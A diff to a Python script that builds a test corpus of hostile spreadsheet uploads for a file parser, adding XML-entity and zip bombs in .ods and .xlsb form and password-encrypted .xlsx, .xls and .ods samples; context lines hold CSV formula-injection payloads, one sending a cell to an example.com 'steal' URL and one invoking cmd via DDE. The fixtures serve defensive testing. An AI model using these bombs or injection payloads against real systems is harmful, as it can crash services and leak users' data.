@@ -7,12 +7,19 @@ so that each test reads a real file, byte for byte what a user could upload.
 from __future__ import annotations
 
 import io
+import random
 import re
 import struct
 import zipfile
 import zlib
 from pathlib import Path
 
+import olefile
+import xlwt
+from msoffcrypto.format.ooxml import OOXMLFile
+from odf.opendocument import OpenDocumentSpreadsheet
+from odf.table import Table, TableCell, TableRow
+from odf.text import P
 from openpyxl import Workbook
 
 HERE = Path(__file__).parent
@@ -156,6 +163,146 @@ def understated_sizes() -> bytes:
     return bytes(content)
 
 
+def ods_parts(rows: list[list[str]]) -> dict[str, bytes]:
+    """The parts of a real .ods (odfpy) with one sheet, "List 3", of text cells."""
+    document = OpenDocumentSpreadsheet()
+    table = Table(name="List 3")
+    for values in rows:
+        row = TableRow()
+        for value in values:
+            cell = TableCell(valuetype="string")
+            cell.addElement(P(text=value))
+            row.addElement(cell)
+        table.addElement(row)
+    document.spreadsheet.addElement(table)
+    buffer = io.BytesIO()
+    document.write(buffer)
+    source = zipfile.ZipFile(buffer)
+    return {name: source.read(name) for name in source.namelist()}
+
+
+def ods_zip(parts: dict[str, bytes], padding: int = 0) -> bytes:
+    """An .ods as LibreOffice packs one: "mimetype" first and stored, the rest deflated;
+    ``padding`` megabytes of spaces in one more part make it a zip bomb."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(zipfile.ZipInfo("mimetype"), parts["mimetype"],
+                         compress_type=zipfile.ZIP_STORED)
+        for name, content in parts.items():
+            if name != "mimetype":
+                archive.writestr(name, content)
+        if padding:
+            with archive.open("Thumbnails/padding.xml", "w", force_zip64=True) as part:
+                block = b" " * (1 << 20)
+                for _ in range(padding):
+                    part.write(block)
+    return buffer.getvalue()
+
+
+def ods_xml_bomb() -> bytes:
+    """A real .ods whose content.xml declares nested entities (billion laughs) and uses
+    the last in a cell."""
+    parts = ods_parts([REFERRAL_HEADINGS[:6], ["C1"]])
+    content = parts["content.xml"]
+    root = content.index(b"<office:document-content")
+    parts["content.xml"] = (content[:root] + f"<!DOCTYPE office:document-content [{_LAUGHS}]>"
+                            .encode() + content[root:]).replace(b">C1<", b">&a9;<", 1)
+    return ods_zip(parts)
+
+
+ENCRYPTED_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
+<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" \
+manifest:version="1.3">
+ <manifest:file-entry manifest:full-path="/" manifest:version="1.3" \
+manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
+ <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" \
+manifest:size="2048">
+  <manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:\
+manifest:1.0#sha256-1k" manifest:checksum="bm90IGEgcmVhbCBjaGVja3N1bQ==">
+   <manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" \
+manifest:initialisation-vector="MDEyMzQ1Njc4OWFiY2RlZg=="/>
+   <manifest:start-key-generation manifest:start-key-generation-name=\
+"http://www.w3.org/2000/09/xmldsig#sha256" manifest:key-size="32"/>
+   <manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" \
+manifest:iteration-count="100000" manifest:salt="c2FsdHNhbHRzYWx0c2FsdA=="/>
+  </manifest:encryption-data>
+ </manifest:file-entry>
+</manifest:manifest>
+"""
+
+
+def encrypted_ods() -> bytes:
+    """An .ods saved with a password, as LibreOffice writes one: its manifest gives each
+    encrypted part's encryption data, and content.xml is ciphertext (random bytes here)."""
+    parts = ods_parts([REFERRAL_HEADINGS[:6]])
+    parts["META-INF/manifest.xml"] = ENCRYPTED_MANIFEST
+    parts["content.xml"] = random.Random(28).randbytes(2048)  # noqa: S311 - not a secret
+    return ods_zip(parts)
+
+
+def encrypted_xlsx() -> bytes:
+    """A real workbook encrypted by msoffcrypto-tool (password "pw"), as Excel's "Encrypt
+    with Password" leaves it: an OLE2 file holding EncryptionInfo and EncryptedPackage."""
+    out = io.BytesIO()
+    OOXMLFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS, good_referral("C1")]}))
+              ).encrypt("pw", out)
+    return out.getvalue()
+
+
+def encrypted_xls(rc4: bool = True) -> bytes:
+    """A real .xls (xlwt) with a FILEPASS record after its BOF record, as Excel writes an
+    encrypted one: RC4 (Excel 97-2003's "Encrypt with Password") or, with ``rc4`` False,
+    the older XOR obfuscation, which calamine reads as if it were plain.
+
+    The records after it are left in clear (a reader must stop at FILEPASS anyway); the
+    sheets' offsets are moved past the new record, and as much of the stream's trailing
+    padding is dropped, so the stream keeps its size (olefile rewrites it in place).
+    """
+    book = xlwt.Workbook()
+    sheet = book.add_sheet("List 3")
+    for column, heading in enumerate(REFERRAL_HEADINGS):
+        sheet.write(0, column, heading)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    if rc4:  # wEncryptionType 1, RC4 header 1.1: salt, verifier and its hash
+        body = struct.pack("<HHH", 1, 1, 1) + random.Random(29).randbytes(48)  # noqa: S311
+    else:  # wEncryptionType 0: key and verifier
+        body = struct.pack("<HHH", 0, 0x1234, 0x5678)
+    filepass = struct.pack("<HH", 0x002F, len(body)) + body
+    ole = olefile.OleFileIO(buffer, write_mode=True)
+    stream = bytearray(ole.openstream("Workbook").read())
+    at = 0
+    while at < len(stream):
+        kind, length = struct.unpack_from("<HH", stream, at)
+        if kind == 0x0085:  # BoundSheet8: where the sheet's records start
+            struct.pack_into("<I", stream, at + 4,
+                             struct.unpack_from("<I", stream, at + 4)[0] + len(filepass))
+        if kind == 0x000A:  # the end of the workbook's own records
+            break
+        at += 4 + length
+    if stream[-len(filepass):].strip(b"\0"):
+        raise ValueError("the stream has no padding to give up")
+    ole.write_stream("Workbook", bytes(stream[:20]) + filepass
+                     + bytes(stream[20:len(stream) - len(filepass)]))
+    ole.close()
+    return buffer.getvalue()
+
+
+def xlsb_zip_bomb() -> bytes:
+    """The parts an .xlsb must have (no real binary records: the bomb is refused before
+    any is read) and one part that unpacks to 420 MB of zeros."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
+                         'schemas.openxmlformats.org/package/2006/content-types"/>')
+        archive.writestr("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")
+        with archive.open("xl/worksheets/sheet1.bin", "w", force_zip64=True) as part:
+            block = b"\0" * (1 << 20)
+            for _ in range(420):
+                part.write(block)
+    return buffer.getvalue()
+
+
 CORPUS: dict[str, bytes] = {
     "wrong_headings.csv": referral_csv([["C1", "M", "01/01/2015"]],
                                        ["Kid", "Sex", "Born on", "When referred"]),
@@ -170,7 +317,9 @@ CORPUS: dict[str, bytes] = {
     "empty.xlsx": workbook({"Sheet1": []}),
     "not_a_workbook.xlsx": zip_bytes({"notes.txt": b"This is a zip of a text file."}),
     "not_a_zip.xlsx": b"Child Unique ID,Gender\r\nC1,M\r\n",
+    # only the OLE2 signature, then zeros: a damaged .xls (once refused for its name)
     "old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
+    "text_file.xls": b"Child Unique ID,Gender\r\nC1,M\r\n",
     "formula_injection.csv": referral_csv([
         ['=HYPERLINK("http://example.com/steal?"&A1;"Click")', "M", "WBRI", "05/05/2015", "11",
          "+cmd|' /C calc'!A0", "6", "N", "1", "Team A", "Worker 1"],
@@ -183,10 +332,19 @@ CORPUS: dict[str, bytes] = {
     "sparse_grid.xlsx": sparse_grid(with_dimension=True),
     "sparse_grid_no_dimension.xlsx": sparse_grid(with_dimension=False),
     "understated_sizes.xlsx": understated_sizes(),
+    "xml_bomb.ods": ods_xml_bomb(),
+    "zip_bomb.ods": ods_zip(ods_parts([REFERRAL_HEADINGS[:6]]), padding=420),
+    "zip_bomb.xlsb": xlsb_zip_bomb(),
+    "encrypted.xlsx": encrypted_xlsx(),
+    "encrypted.xls": encrypted_xls(),
+    "encrypted_xor.xls": encrypted_xls(rc4=False),
+    "encrypted.ods": encrypted_ods(),
 }
 
 
 def main() -> None:
+    """Writes every file; openpyxl and msoffcrypto stamp times and salts in theirs, so
+    put back (git checkout) the files you did not mean to change."""
     for name, content in CORPUS.items():
         (HERE / name).write_bytes(content)
         print(f"{name}: {len(content):,} bytes")
